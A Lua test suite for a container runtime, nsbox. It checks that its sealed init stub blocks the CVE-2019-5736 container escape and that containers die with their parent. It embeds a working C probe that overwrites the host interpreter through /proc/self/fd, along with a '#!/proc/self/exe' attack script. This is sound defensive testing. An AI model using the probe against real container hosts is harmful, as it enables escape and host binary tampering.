-- Issue 11, security breaks 4, 6 and 7: what runs as a container's PID 1 and
-- between the parent and its command. nsbox-init (csrc/init/nsbox-init.c), a
-- static stub in a sealed memfd, is exec'd in place of the command: the host's
-- interpreter is never what /proc/self/exe is at the command's exec
-- (CVE-2019-5736), and as PID 1 it ties the container to its parent whatever the
-- command does to its credentials. A child held on its channel holds nothing of
-- the parent's but that channel.
local H = require "spec.support.helpers"
local nsbox, core = H.nsbox, H.core
local q = H.sh_quote

local LUA = core.readlink("/proc/self/exe")

-- probe drop SECONDS: setresuid/setresgid 1000 (the kernel clears the parent-death
-- signal), say "dropped", sleep. probe attack RESULT: CVE-2019-5736 after runc's
-- advisory: take the fd of the interpreter that ran us (inherited, opened by the
-- script through /proc/self/exe), wait until nothing executes it (ETXTBSY ends
-- when the parent and every fork of it are gone), open it for writing through
-- /proc/self/fd and overwrite it; RESULT says what happened.
local PROBE = [[
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "drop")) {
		if (setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000))
			return perror("setresuid"), 1;
		printf("dropped\n");
		fflush(stdout);
		sleep((unsigned)atoi(argv[2]));
		return 0;
	}
	if (argc != 3 || strcmp(argv[1], "attack"))
		return 2;
	int fd = -1;
	char link[64], target[4096];
	for (int i = 3; i < 64 && fd < 0; i++) {
		snprintf(link, sizeof link, "/proc/self/fd/%d", i);
		ssize_t n = readlink(link, target, sizeof target - 1);
		if (n > 0 && (target[n] = 0, strstr(target, "lua")))
			fd = i;
	}
	FILE *out = fopen(argv[2], "w");
	if (!out)
		return 3;
	if (fd < 0)
		return fprintf(out, "no interpreter fd\n"), 0;
	setsid();
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	for (int i = 0; i < 400; i++) {
		int w = open(link, O_WRONLY);
		if (w >= 0) {
			ssize_t n = write(w, "PWNED", 5);
			fprintf(out, n == 5 ? "written\n" : "write refused: %s\n", strerror(errno));
			return 0;
		}
		if (errno != ETXTBSY)
			return fprintf(out, "open refused: %s\n", strerror(errno)), 0;
		usleep(50000);
	}
	fprintf(out, "still busy\n");
	return 0;
}
]]

-- A directory with the static probe and the scripts, mounted at /shared.
local function shared_dir()
  local dir = H.tmpdir("pid1")
  local f = assert(io.open(dir .. "/probe.c", "w"))
  f:write(PROBE)
  f:close()
  assert(os.execute(string.format("cc -std=c11 -O2 -static -o %s/probe %s/probe.c", q(dir), q(dir))))
  -- Lua source run by whatever /proc/self/exe is at its exec: the host's lua5.4 unless nsbox stops it
  f = assert(io.open(dir .. "/evil", "w"))
  f:write("#!/proc/self/exe\nEXE = io.open('/proc/self/exe', 'rb')\n",
    "os.execute('/shared/probe attack /shared/result &')\nprint('the host interpreter ran: ' .. arg[0])\n")
  f:close()
  assert(os.execute("chmod 755 " .. q(dir) .. "/evil"))
  return dir
end

local function mounts(dir) return { { source = dir, destination = "/shared" } } end

-- A copy of the test rootfs with what the host's lua5.4 needs to run in it (its
-- libraries and loader, from ldd), as an attacker's image would have.
local function lua_rootfs(dir)
  local root = dir .. "/rootfs"
  assert(os.execute(string.format("cp -a %s %s", q(H.rootfs), q(root))))
  for lib in H.sh("ldd " .. q(LUA)):gmatch("(/%S+) %(0x") do
    assert(os.execute(string.format("mkdir -p %s && cp -L %s %s", q(root .. lib:match("^(.*)/")), q(lib), q(root .. lib))))
  end
  return root
end

-- Processes whose pid namespace is ns (a /proc/PID/ns/pid link), by pid.
local function members(ns)
  local out = {}
  for _, name in ipairs(core.readdir("/proc")) do
    local pid = tonumber(name)
    if pid and core.readlink("/proc/" .. pid .. "/ns/pid") == ns then out[#out + 1] = pid end
  end
  return out
end

-- Wait up to 5 s for no process to be left in ns; returns those left (killed then).
local function left_in(ns)
  local left
  for _ = 1, 100 do
    left = members(ns)
    if #left == 0 then return left end
    os.execute("sleep 0.05")
  end
  for _, pid in ipairs(left) do
    local fd = core.pidfd_open(pid)
    if fd then core.kill(fd, core.SIGKILL) core.close(fd) end
  end
  return left
end

local function slurp(path)
  local f = io.open(path, "rb")
  if not f then return nil end
  local s = f:read("a")
  f:close()
  return s
end

describe("a command that starts with #!/proc/self/exe (CVE-2019-5736)", function()
  local dir, rootfs
  setup(function()
    dir = shared_dir()
    rootfs = lua_rootfs(H.tmpdir("luaroot"))
  end)
  teardown(function() H.rm(dir) end)

  local function refused(st, out, err)
    assert.equal(127, st, out .. err)
    assert.is_nil(out:find("host interpreter ran", 1, true), out)
    assert.matches("nsbox%-init: nsbox runs this itself", err)
  end

  for _, v in ipairs { { name = "forked" }, { name = "re-executed", reexec = true }, { name = "init = true", init = true } } do
    it("runs the sealed stub, never the host's interpreter, as the command (" .. v.name .. ")", function()
      refused(H.capture { rootfs = rootfs, command = { "/shared/evil" }, mounts = mounts(dir), reexec = v.reexec,
        init = v.init })
    end)
  end

  it("runs the sealed stub, never the host's interpreter, when it joins a running container (exec)", function()
    local box = assert(nsbox.container { rootfs = rootfs, command = { "sleep", "30" }, mounts = mounts(dir) })
    assert(box:start())
    finally(function() box:kill(core.SIGKILL) box:wait() end)
    local out_r, out_w = assert(core.pipe())
    local err_r, err_w = assert(core.pipe())
    local st, msg = box:exec { command = { "/shared/evil" }, stdout = out_w, stderr = err_w }
    core.close(out_w)
    core.close(err_w)
    local out, err = core.read_all(out_r), core.read_all(err_r)
    core.close(out_r)
    core.close(err_r)
    assert.is_nil(msg)
    refused(st, out, err)
  end)

  it("finds as PID 1's exe a sealed memfd that nobody, host root included, can write", function()
    H.needs_root("reads the init's /proc/PID/exe from the host")
    local box = assert(nsbox.container { rootfs = H.rootfs, command = { "sleep", "30" } })
    assert(box:start())
    finally(function() box:kill(core.SIGKILL) box:wait() end)
    local exe = "/proc/" .. box.pid .. "/exe"
    assert.equal("/memfd:nsbox-init (deleted)", core.readlink(exe))
    local before = assert(slurp(exe))
    assert.matches("^\127ELF", before)
    -- while it runs, ETXTBSY; the seals hold once nothing executes it (this
    -- process's copy, which starts every container and runs none)
    local stub = "/proc/self/fd/" .. assert(core.init_stub())
    assert.equal("/memfd:nsbox-init (deleted)", core.readlink(stub))
    assert.equal(before, slurp(stub))
    for _, path in ipairs { exe, stub } do
      local f, err = io.open(path, "w") -- O_TRUNC: the shrink seal refuses it
      assert.is_nil(f)
      assert.truthy(err:find("Operation not permitted", 1, true) or err:find("Text file busy", 1, true), err)
      f = io.open(path, "r+") -- O_RDWR may open for root; the write seal refuses every write
      if f then
        f:write("PWNED")
        local ok = f:flush()
        f:close()
        assert.is_nil(ok)
      end
      assert.equal(before, slurp(path))
    end
    -- from inside, the command cannot even look at it: init is non-dumpable
    local st, out = H.run_sh("readlink /proc/1/exe || echo refused")
    assert.equal(0, st)
    assert.equal("refused\n", out)
  end)

  it("leaves the host's interpreter unchanged: the whole attack, against a copy", function()
    H.needs_root("the container's root is host root (the default identity map as root)")
    -- The parent runs from a copy of lua5.4, so a container side that is a fork of
    -- it (or the command of a shebang) is that copy, never /usr/bin/lua5.4. PID 1
    -- drops to uid 1000; the joined command is the script; the parent leaves
    -- without closing the box. The probe, left behind, waits for the copy to be free.
    local copy = dir .. "/lua5.4"
    assert(os.execute(string.format("cp %s %s", q(LUA), q(copy))))
    local original = slurp(copy)
    local script = string.format([[
      local nsbox = require "nsbox"
      local core = require "nsbox.core"
      local IDS = { inside = 0, outside = 0, count = 65536 } -- uid 1000 mapped
      local r, w = assert(core.pipe())
      local box = assert(nsbox.container { rootfs = %q, command = { "/shared/probe", "drop", "60" },
        mounts = { { source = %q, destination = "/shared" } }, uid_map = IDS, gid_map = IDS, stdout = w, stderr = w })
      assert(box:start())
      core.close(w)
      assert(core.read(r, 8) == "dropped\n")
      print("pid " .. box.pid .. " " .. core.readlink("/proc/" .. box.pid .. "/ns/pid"))
      print("exec", box:exec { command = { "/shared/evil" } })
      io.stdout:flush()
      os.exit(0) -- no finalizer: the box is not closed
    ]], rootfs, dir)
    local out = H.sh(string.format("%s %s -e %s 2>&1", H.lua_env(), q(copy), q(script)))
    local ns = out:match("pid %d+ (pid:%[%d+%])")
    assert.truthy(ns, out)
    -- the probe, if it ran, reports within 20 s (400 tries of 50 ms)
    local result
    for _ = 1, 250 do
      result = slurp(dir .. "/result")
      if result and result:find("\n") then break end
      os.execute("sleep 0.1")
    end
    local left = left_in(ns)
    assert.is_true(original == slurp(copy), "the interpreter was overwritten: " .. tostring(result))
    assert.is_nil(result, "the attack ran: " .. tostring(result))
    assert.same({}, left)
  end)
end)

describe("killing the parent", function()
  if H.needs_root("a network namespace of its own for the bridge; drops to uid 1000 from host root") then return end
  local dir
  setup(function() dir = shared_dir() end)
  teardown(function() H.rm(dir) end)

  -- The parent (another process) starts a container whose command drops to uid
  -- 1000, waits until it has, then dies by SIGKILL. Returns the pid namespace.
  local function parent_killed(opts)
    local state = H.tmpdir("leases")
    local script = string.format([[
      require("nsbox.net").STATE_DIR = %q
      local nsbox = require "nsbox"
      local core = require "nsbox.core"
      local IDS = { inside = 0, outside = 0, count = 65536 } -- uid 1000 mapped
      local r, w = assert(core.pipe())
      local box = assert(nsbox.container { rootfs = %q, command = { "/shared/probe", "drop", "60" },
        mounts = { { source = %q, destination = "/shared" } }, uid_map = IDS, gid_map = IDS, stdout = w, stderr = w,
        init = %s,
        network = %s and { bridge = "pid1br0", gateway = "10.81.0.1/24" } or nil })
      assert(box:start())
      core.close(w)
      assert(core.read(r, 8) == "dropped\n")
      print(core.readlink("/proc/" .. box.pid .. "/ns/pid"))
      io.stdout:flush()
      core.kill(assert(core.pidfd_open(core.getpid())), core.SIGKILL)
    ]], state, H.rootfs, dir, tostring(opts.init or false), tostring(opts.network or false))
    local line = string.format("%s lua5.4 -e %s", H.lua_env(), q(script))
    if opts.network then line = "unshare -n sh -c " .. q("ip link set lo up && " .. line) end
    local out = H.sh(line .. " 2>&1")
    H.rm(state)
    return out:match("^(pid:%[%d+%])\n"), out
  end

  for _, v in ipairs { { name = "PID 1" }, { name = "a command under init = true", init = true },
                       { name = "PID 1 with a network", network = true } } do
    it("kills the container whose " .. v.name .. " dropped to uid 1000 (no parent-death signal left)", function()
      local ns, out = parent_killed(v)
      assert.truthy(ns, out)
      assert.same({}, left_in(ns))
    end)
  end
end)

describe("killing the parent of init = true without a pid namespace", function()
  if H.needs_root("drops to uid 1000 from host root") then return end
  local dir
  setup(function() dir = shared_dir() end)
  teardown(function() H.rm(dir) end)

  -- init is no PID 1 there: its parent-death signal kills it, the command's own
  -- (set by init before the exec) kills the command, which dropped to uid 1000
  it("kills the command, which init forked and which dropped to uid 1000", function()
    local script = string.format([[
      local nsbox = require "nsbox"
      local core = require "nsbox.core"
      local r, w = assert(core.pipe())
      local box = assert(nsbox.container { rootfs = %q, command = { "/shared/probe", "drop", "60" }, init = true,
        namespaces = { "mount", "uts", "ipc", "net" }, -- no pid namespace: no user namespace either (/proc)
        mounts = { { source = %q, destination = "/shared" } }, stdout = w, stderr = w })
      assert(box:start())
      core.close(w)
      assert(core.read(r, 8) == "dropped\n")
      local f = assert(io.open("/proc/" .. box.pid .. "/task/" .. box.pid .. "/children"))
      local child = f:read("n") f:close()
      print(child, core.starttime(child))
      io.stdout:flush()
      core.kill(assert(core.pidfd_open(core.getpid())), core.SIGKILL)
    ]], H.rootfs, dir)
    local out = H.sh(string.format("%s lua5.4 -e %s 2>&1", H.lua_env(), q(script)))
    local pid, start = out:match("^(%d+)%s+(%d+)\n")
    assert.truthy(pid, out)
    local alive
    for _ = 1, 50 do
      alive = core.starttime(tonumber(pid)) == tonumber(start)
      if not alive then break end
      os.execute("sleep 0.1")
    end
    if alive then core.kill(assert(core.pidfd_open(tonumber(pid))), core.SIGKILL) end
    assert.is_false(alive, "the command outlived its parent")
  end)
end)

describe("nsbox-init", function()
  it("is out of the command's reach: sys_ptrace is refused with a new pid namespace, kept without one", function()
    local box, err = nsbox.container { rootfs = H.rootfs, capabilities = { add = { "sys_ptrace" } } }
    assert.is_nil(box)
    assert.equal("capabilities: sys_ptrace would let the command take over nsbox's init (PID 1 of a new pid " ..
      "namespace, or init = true): refused", err)
    assert.is_nil((nsbox.container { rootfs = H.rootfs, capabilities = { add = { "sys_ptrace" } }, init = true,
      namespaces = { "user", "mount", "uts", "ipc", "net" } }))
    -- (as root without a pid namespace, the container's ids are given: a picked range needs one)
    local own = { inside = 0, outside = core.geteuid(), count = 1 }
    assert.truthy(nsbox.container { rootfs = H.rootfs, capabilities = { add = { "sys_ptrace" } },
      namespaces = { "user", "mount", "uts", "ipc", "net" }, uid_map = own, gid_map = { inside = 0,
      outside = core.getegid and core.getegid() or core.getgid(), count = 1 } })
  end)

  -- init blanks its arguments before it forks the command, not after: strace holds
  -- init's clone for 0.3 s, and the command's first read of /proc/1/cmdline must
  -- already find only "nsbox-init" (it found "nsbox-init 5 /bin/cat cat ..." once
  -- a fresh Debian under load ran ps before init got the CPU back)
  it("shows only \"nsbox-init\" as PID 1's arguments from the command's first instruction on", function()
    H.needs_root("traces init as root")
    if not H.run("command -v strace") then return pending("needs strace (Debian package strace)") end
    local script = string.format([[
      local nsbox = require "nsbox"
      local box = assert(nsbox.container { rootfs = %q, command = { "cat", "/proc/1/cmdline" } })
      os.exit(box:run())
    ]], H.rootfs)
    local st, out, err = H.run3(string.format("%s strace -f -qq -o /dev/null -e trace=clone " ..
      "-e inject=clone:delay_exit=300000 lua5.4 -e %s", H.LUA_ENV, q(script)))
    assert.equal(0, st, err)
    assert.equal("nsbox-init", (out:gsub("%z+$", "")))
  end)

  it("passes every signal it can take on to the command, not only the six the parent forwards", function()
    local dir = H.tmpdir("signals")
    assert(os.execute("chmod 1777 " .. H.sh_quote(dir))) -- as root, the container's root is a range's
    local out = dir .. "/out"
    local box = assert(nsbox.container { rootfs = H.rootfs, mounts = { { source = dir, destination = "/shared" } },
      command = { "/bin/sh", "-c", "for s in ALRM WINCH USR1; do trap \"echo $s >> /shared/out\" $s; done; " ..
        "trap 'exit 3' TERM; echo ready > /shared/out; while :; do sleep 0.05; done" } })
    assert(box:start())
    finally(function() box:kill(core.SIGKILL) box:wait() H.rm(dir) end)
    -- what the command wrote so far, once it holds want (5 s at most: a lost signal fails, not hangs)
    local function seen(want)
      local s = ""
      for _ = 1, 100 do
        local f = io.open(out)
        s = f and f:read("a") or ""
        if f then f:close() end
        if s == want then break end
        os.execute("sleep 0.05")
      end
      return s
    end
    local want = "ready\n"
    assert.equal(want, seen(want))
    for _, sig in ipairs { { 14, "ALRM" }, { 28, "WINCH" }, { core.SIGUSR1, "USR1" } } do
      assert(box:kill(sig[1]))
      want = want .. sig[2] .. "\n"
      assert.equal(want, seen(want))
    end
    assert(box:kill(core.SIGTERM))
    assert.equal(3, box:wait())
  end)

  it("holds no capability the command does not", function()
    H.needs_root("reads the init's /proc/PID/status from the host")
    local box = assert(nsbox.container { rootfs = H.rootfs, command = { "sleep", "30" },
      capabilities = { drop = { "chown" } } })
    assert(box:start())
    finally(function() box:kill(core.SIGKILL) box:wait() end)
    local child = H.sh("pgrep -P " .. box.pid):match("^(%d+)\n$")
    assert.truthy(child, "the command is not init's only child")
    local function caps(pid)
      local out = {}
      for line in io.lines("/proc/" .. pid .. "/status") do
        if line:match("^Cap") or line:match("^NoNewPrivs") then out[#out + 1] = line end
      end
      return table.concat(out, "\n")
    end
    assert.equal(caps(child), caps(box.pid))
    assert.matches("CapBnd:%s+00000000800405fa", caps(box.pid)) -- the default set without chown
  end)
end)

describe("a child held on its channel while its parent writes its id maps", function()
  it("holds nothing of the parent's but its channel, stdio and the sealed stub", function()
    local idmap = require "nsbox.idmap"
    local write, held = idmap.write
    local f = assert(io.open("/etc/hostname"))
    -- another box running meanwhile: its channel end must not be copied into the new child
    local other = assert(nsbox.container { rootfs = H.rootfs, command = { "sleep", "30" } })
    local ok, err = other:start()
    idmap.write = function(pid, ...)
      held = H.sh("ls -l /proc/" .. pid .. "/fd | awk 'NR > 1 { print $9, $11 }'")
      return write(pid, ...)
    end
    finally(function() idmap.write = write f:close() other:kill(core.SIGKILL) other:wait() end)
    assert(ok, err)
    assert.equal(0, nsbox.container { rootfs = H.rootfs, command = { "true" } }:run())
    assert.truthy(held)
    -- where this process's stdio is a terminal (the VM's console), pipes stand in for it (nsbox.tty)
    local terminals = 0
    for fd = 0, 2 do if core.isatty(fd) then terminals = terminals + 1 end end
    local sockets, pipes = 0, 0
    for fd, what in held:gmatch("(%d+) (%S+)") do
      if what:match("^socket:") then sockets = sockets + 1 end
      if what:match("^pipe:") and tonumber(fd) > 2 then pipes = pipes + 1 end
      assert.truthy(tonumber(fd) <= 2 or what:match("^socket:") or what == "/memfd:nsbox-init" or
                    (what:match("^pipe:") and terminals > 0), held)
    end
    assert.equal(1, sockets, held)
    assert.is_true(pipes <= terminals, held)
  end)
end)

describe("a parent SIGKILLed at random moments while it launches containers", function()
  it("leaves no process behind, 200 times over", function()
    -- A subreaper (another process) collects what the killed parent leaves: any
    -- child of its own still there 3 s after a kill is a stray set-up process.
    local dir = H.tmpdir("strays")
    finally(function() H.rm(dir) end)
    local launcher = dir .. "/launcher.lua"
    local f = assert(io.open(launcher, "w"))
    f:write(string.format([[
      local nsbox = require "nsbox"
      while true do -- one at a time, then two side by side
        assert(nsbox.container { rootfs = %q, command = { "true" } }):run()
        local a = assert(nsbox.container { rootfs = %q, command = { "true" } })
        local b = assert(nsbox.container { rootfs = %q, command = { "true" } })
        assert(a:launch()) assert(b:launch())
        a:wait() b:wait()
      end
    ]], H.rootfs, H.rootfs, H.rootfs))
    f:close()
    local reaper = string.format([[
      local core = require "nsbox.core"
      assert(core.prctl(core.PR_SET_CHILD_SUBREAPER, 1))
      local me = core.getpid()
      local function children()
        local out = {}
        for _, name in ipairs(core.readdir("/proc")) do
          local pid = tonumber(name)
          local f = pid and io.open("/proc/" .. pid .. "/stat")
          if f then
            local ppid = (f:read("a") or ""):match("^%%d+ %%b() %%S+ (%%d+)")
            f:close()
            if tonumber(ppid) == me then out[#out + 1] = pid end
          end
        end
        return out
      end
      local strays = 0
      math.randomseed(%d)
      for _ = 1, 200 do
        local _, pidfd = assert(core.spawn { path = %q, argv = { %q, %q } })
        os.execute(string.format("sleep %%.3f", 0.02 + math.random() * 0.08))
        core.kill(pidfd, core.SIGKILL)
        core.wait(pidfd)
        core.close(pidfd)
        local left
        for _ = 1, 60 do
          for _, c in ipairs(children()) do -- reap what has ended
            local fd = core.pidfd_open(c)
            if fd then core.poll(fd) core.close(fd) end
          end
          left = children()
          if #left == 0 then break end
          os.execute("sleep 0.05")
        end
        for _, c in ipairs(left) do
          strays = strays + 1
          local fd = core.pidfd_open(c)
          if fd then core.kill(fd, core.SIGKILL) core.wait(fd) core.close(fd) end
        end
      end
      print("strays " .. strays)
    ]], os.time(), LUA, LUA, launcher)
    local out = H.sh(string.format("%s lua5.4 -e %s 2>&1", H.lua_env(), q(reaper)))
    assert.equal("strays 0\n", out)
  end)
end)
